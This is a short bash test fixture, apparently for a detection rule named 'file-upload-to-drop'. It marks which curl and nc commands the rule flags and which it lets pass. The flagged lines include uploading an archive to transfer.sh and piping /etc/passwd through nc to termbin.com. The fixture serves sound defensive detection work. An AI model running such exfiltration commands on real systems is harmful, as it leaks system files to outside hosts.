#!/bin/bash
# ok: file-upload-to-drop
curl -fsSLO https://transfer.sh/abc/data.tgz
# ok: file-upload-to-drop
curl -F file=@report.pdf https://reports.example/upload
# ruleid: file-upload-to-drop
curl --upload-file data.tgz https://transfer.sh/data.tgz
# ruleid: file-upload-to-drop
cat /etc/passwd | nc termbin.com 9999
